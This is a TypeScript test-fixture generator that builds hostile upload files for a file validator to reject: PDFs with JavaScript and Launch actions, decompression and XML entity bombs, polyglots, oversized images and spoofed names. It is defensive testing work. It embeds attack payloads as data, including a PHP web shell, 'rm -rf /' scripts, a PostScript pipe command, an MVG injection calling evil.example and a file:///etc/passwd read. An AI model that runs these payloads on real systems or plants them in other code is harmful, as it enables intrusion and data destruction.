import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { zipOf } from "./zip.ts";

/** A file that must not get in, and with which code it is refused; undefined for one that is let in harmless. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
  /** Any of these answers is right. */
  readonly codes: readonly string[];
}

const MIB = 1024 * 1024;

/** The least that is a PDF: objects as given, numbered from 3, behind a catalogue and one page. */
export function pdfOf(objects: readonly (string | Buffer)[], catalogue = "", trailer = ""): Buffer {
  const all: (string | Buffer)[] = [
    `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    "<</Type/Pages/Count 1/Kids[3 0 R]>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
    ...objects,
  ];
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n", "latin1")];
  const offsets: number[] = [];
  let at = parts[0]?.length ?? 0;
  const add = (text: string | Buffer): void => {
    const bytes = Buffer.from(text as string, "latin1");
    parts.push(bytes);
    at += bytes.length;
  };
  all.forEach((object, index) => {
    offsets.push(at);
    add(`${index + 1} 0 obj\n`);
    add(object);
    add("\nendobj\n");
  });
  const start = at;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  add(`xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}`);
  add(`trailer\n<</Size ${all.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`);
  return Buffer.concat(parts);
}

function streamOf(data: Buffer, dictionary: string): Buffer {
  return Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${data.length}>>\nstream\n`, "latin1"),
    data,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

const bomb = (bytes: number): Buffer => deflateSync(Buffer.alloc(bytes), { level: 1 });

const one = (what: string, bytes: Buffer, codes: readonly string[]): HostileFile => ({
  what,
  name: `${what}.pdf`,
  bytes,
  codes,
});

function pdfs(): readonly HostileFile[] {
  const flate = "/Filter/FlateDecode";
  const complex = ["file-too-complex"];
  const active = ["pdf-active-content"];
  const actions = [
    "/S/JavaScript/JS(app.alert\\(1\\))",
    "/S/Launch/F(cmd.exe)",
    "/S/SubmitForm/F(http://evil.example)",
    "/S/ImportData/F(x.fdf)",
    "/S/GoToE/T<</R/C>>",
    "/S/J#61vaScript/JS(x)",
    "/S/#4aavaScript/#4a#53(x)",
  ];
  const places = ["/OpenAction 4 0 R", "/AA<</WC 4 0 R>>", "/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", ""];
  return [
    ...actions.flatMap((action, a) =>
      places.map((place, p) =>
        one(`script ${a} called from ${p}`, pdfOf([`<</Type/Action${action}>>`], place), active),
      ),
    ),
    ...actions.map((action, a) => {
      const inside = deflateSync(Buffer.from(`10 0 <</Type/Action${action}>>`));
      return one(
        `script ${a} in an object stream`,
        pdfOf([streamOf(inside, `/Type/ObjStm/N 1/First 5${flate}`)]),
        active,
      );
    }),
    ...["EmbeddedFiles", "EmbeddedFile", "RichMedia", "XFA"].map((name) =>
      one(`holds ${name}`, pdfOf([`<</${name} 3 0 R>>`]), active),
    ),
    one("a million objects", manyObjects(1_000_000), complex),
    one("a hundred thousand objects", manyObjects(100_000), complex),
    one(
      "an object stream of a million",
      pdfOf([streamOf(bomb(2 * MIB), `/Type/ObjStm/N 1000000/First 9${flate}`)]),
      complex,
    ),
    one("an object stream of 256 MB", pdfOf([streamOf(bomb(256 * MIB), `/Type/ObjStm/N 3/First 9${flate}`)]), complex),
    one("a page of 256 MB", pdfOf([streamOf(bomb(256 * MIB), flate)]), complex),
    one("forty pages of 8 MB", pdfOf(Array.from({ length: 40 }, () => streamOf(bomb(8 * MIB), flate))), complex),
    one("packed twice", pdfOf([streamOf(deflateSync(bomb(160 * MIB)), "/Filter[/FlateDecode/FlateDecode]")]), complex),
    one(
      "a picture of 50,000 × 50,000",
      pdfOf([streamOf(bomb(MIB), `/Type/XObject/Subtype/Image/Width 50000/Height 50000${flate}`)]),
      complex,
    ),
    one(
      "thirty thousand streams",
      pdfOf(Array.from({ length: 30_000 }, () => streamOf(Buffer.from("x"), ""))),
      complex,
    ),
    one("its pages are each other's", pdfOf(["<</Type/Pages/Kids[4 0 R]>>"], "/Pages 4 0 R"), [
      "file-damaged",
      ...complex,
    ]),
    one("a deep array", pdfOf([`${"[".repeat(200_000)}${"]".repeat(200_000)}`]), ["file-damaged", ...complex]),
    one("a deep dictionary", pdfOf(["<</A".repeat(100_000)]), ["file-damaged", ...complex]),
    one("nothing but a header", Buffer.from("%PDF-1.7\n"), ["file-damaged"]),
    one("without pages", Buffer.from("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"), [
      "file-damaged",
    ]),
    one("locked by a handler nobody knows", pdfOf(["<</Filter/Evil/V 4>>"], "", "/Encrypt 4 0 R"), [
      "pdf-password-protected",
      "file-damaged",
    ]),
    ...[10, 50, 90].map((share) => {
      const whole = pdfOf(["<</A 1>>"]);
      return one(`cut off at ${share} %`, whole.subarray(0, Math.floor((whole.length * share) / 100)), [
        "file-damaged",
      ]);
    }),
  ];
}

function manyObjects(count: number): Buffer {
  const lines = Array.from({ length: count }, (_one, index) => `${index + 9} 0 obj 0 endobj\n`);
  const body = pdfOf([]);
  return Buffer.concat([body.subarray(0, 9), Buffer.from(lines.join("")), body.subarray(9)]);
}

function polyglots(pictures: Readonly<Record<string, Buffer>>): readonly HostileFile[] {
  const pdf = pdfOf(["<</A 1>>"]);
  const zip = zipOf([{ name: "a.txt", bytes: Buffer.from("x".repeat(2000)) }]);
  const page = Buffer.from("<html><script>alert(document.cookie)</script></html>");
  const behind: Readonly<Record<string, Buffer>> = {
    "an archive": zip,
    "a page": page,
    "an SVG": Buffer.from('<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"></svg>'),
    PHP: Buffer.from("<?php system($_GET['c']); ?>"),
    "a program": Buffer.concat([Buffer.from("MZ\u0090\u0000", "latin1"), Buffer.alloc(4000, 7)]),
    "an ELF program": Buffer.concat([Buffer.from("\u007fELF", "latin1"), Buffer.alloc(4000, 7)]),
    "a RAR": Buffer.concat([Buffer.from("Rar!\u001a\u0007\u0001\u0000", "latin1"), Buffer.alloc(4000, 7)]),
    "a shell script": Buffer.from(`#!/bin/sh\n${"rm -rf /\n".repeat(200)}`),
  };
  const hosts = { ...pictures, pdf };
  const codes = ["file-mixed"];
  return [
    ...Object.entries(hosts).flatMap(([ending, host]) =>
      Object.entries(behind).map(([what, more]) => ({
        what: `${what} behind a ${ending}`,
        name: `a.${ending}`,
        bytes: Buffer.concat([host, ending === "pdf" ? Buffer.alloc(1100, "\n") : Buffer.alloc(0), more]),
        codes,
      })),
    ),
    {
      what: "a page at the beginning of a PDF",
      name: "a.pdf",
      bytes: Buffer.concat([Buffer.from("%PDF-1.7\n"), page, pdf.subarray(9)]),
      codes,
    },
    { what: "a PDF behind a page", name: "a.pdf", bytes: Buffer.concat([page, pdf]), codes: ["file-type-unknown"] },
    { what: "a PDF behind a ZIP", name: "a.pdf", bytes: Buffer.concat([zip, pdf]), codes: ["file-type-unknown"] },
  ];
}

function chunk(name: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name, "latin1"), data]);
  const framed = Buffer.alloc(named.length + 8);
  framed.writeUInt32BE(data.length, 0);
  named.copy(framed, 4);
  framed.writeUInt32BE(crc32(named), named.length + 4);
  return framed;
}

/** A PNG that says it is as large as asked and whose lines are all there, unlike its memory. */
function pngOf(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const lines = deflateSync(Buffer.alloc(Math.min((Math.ceil(width / 8) + 1) * height, 320 * MIB)), { level: 1 });
  const signature = Buffer.from("\u0089PNG\r\n\u001a\n", "latin1");
  return Buffer.concat([signature, chunk("IHDR", head), chunk("IDAT", lines), chunk("IEND", Buffer.alloc(0))]);
}

function images(pictures: Readonly<Record<string, Buffer>>): readonly HostileFile[] {
  const large = ["image-too-large"];
  return [
    { what: "a PNG of 50,000 × 50,000", name: "a.png", bytes: pngOf(50_000, 50_000), codes: large },
    {
      what: "a PNG of 2,000,000,000 × 1",
      name: "a.png",
      bytes: pngOf(2_000_000_000, 1),
      codes: [...large, "file-damaged"],
    },
    { what: "a PNG of 1 × 60,000,000", name: "a.png", bytes: pngOf(1, 60_000_000), codes: [...large, "file-damaged"] },
    ...Object.entries(pictures).flatMap(([ending, whole]) =>
      [5, 40, 95].map((share) => ({
        what: `a ${ending} cut off at ${share} %`,
        name: `a.${ending}`,
        bytes: whole.subarray(0, Math.floor((whole.length * share) / 100)),
        codes: ["file-damaged", "file-type-unknown"],
      })),
    ),
  ];
}

function others(): readonly HostileFile[] {
  const zip = zipOf([{ name: "0", bytes: Buffer.alloc(64 * MIB) }]);
  const nested = zipOf([{ name: "1.zip", bytes: zipOf([{ name: "2.zip", bytes: zip }]) }]);
  const entities = Array.from({ length: 9 }, (_one, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join("");
  const laughs = Buffer.from(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY e0 "ha">${entities}]><l>&e9;</l>`);
  const ooxml = (part: string) =>
    zipOf([
      { name: "[Content_Types].xml", bytes: Buffer.from("<Types/>") },
      { name: part, bytes: laughs },
    ]);
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
  const contents: Readonly<Record<string, Buffer>> = {
    "a ZIP bomb": zip,
    "nested ZIPs": nested,
    "a workbook of endless entities": ooxml("xl/workbook.xml"),
    "a letter of endless entities": ooxml("word/document.xml"),
    "XML of endless entities": laughs,
    "an SVG with a script": Buffer.from(svg),
    "an SVG that loads another's": Buffer.from(`<svg><image href="file:///etc/passwd"/></svg>`),
    "a page": Buffer.from("<!doctype html><script>alert(1)</script>"),
    "a program": Buffer.concat([Buffer.from("MZ"), Buffer.alloc(2000, 1)]),
    "a GIF": Buffer.from("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;", "latin1"),
    "a script": Buffer.from("#!/bin/sh\nrm -rf /\n"),
    PostScript: Buffer.from("%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"),
    "an MVG": Buffer.from("push graphic-context\nfill 'url(https://evil.example/|ls)'\n"),
    // The test signature of all scanners, written in two so that none of them finds it here.
    "the scanners' test signature": Buffer.from(
      ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join(""),
    ),
    zeros: Buffer.alloc(4096),
    "one byte": Buffer.from("%"),
  };
  const names = ["a.pdf", "ảnh.jpg", "a.png", "a.pdf\u0000.exe", "\u202efdp.exe"];
  return [
    ...Object.entries(contents).flatMap(([what, bytes]) =>
      names.map((name) => ({
        what: `${what} named ${JSON.stringify(name)}`,
        name,
        bytes,
        codes: ["file-type-unknown"],
      })),
    ),
    { what: "nothing", name: "a.pdf", bytes: Buffer.alloc(0), codes: ["file-empty"] },
    {
      what: "one byte too many",
      name: "a.pdf",
      bytes: Buffer.alloc(20 * MIB + 1, "%PDF-1.7 "),
      codes: ["file-too-big"],
    },
  ];
}

/** Every hostile file, made anew; each is refused. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const photo = sharp({
    create: {
      width: 600,
      height: 400,
      channels: 3,
      background: "#8a9ba8",
      noise: { type: "gaussian", mean: 128, sigma: 30 },
    },
  });
  const pictures = {
    jpg: await photo.clone().jpeg().toBuffer(),
    png: await photo.clone().png().toBuffer(),
    webp: await photo.clone().webp().toBuffer(),
  };
  return [...pdfs(), ...polyglots(pictures), ...images(pictures), ...others()];
}
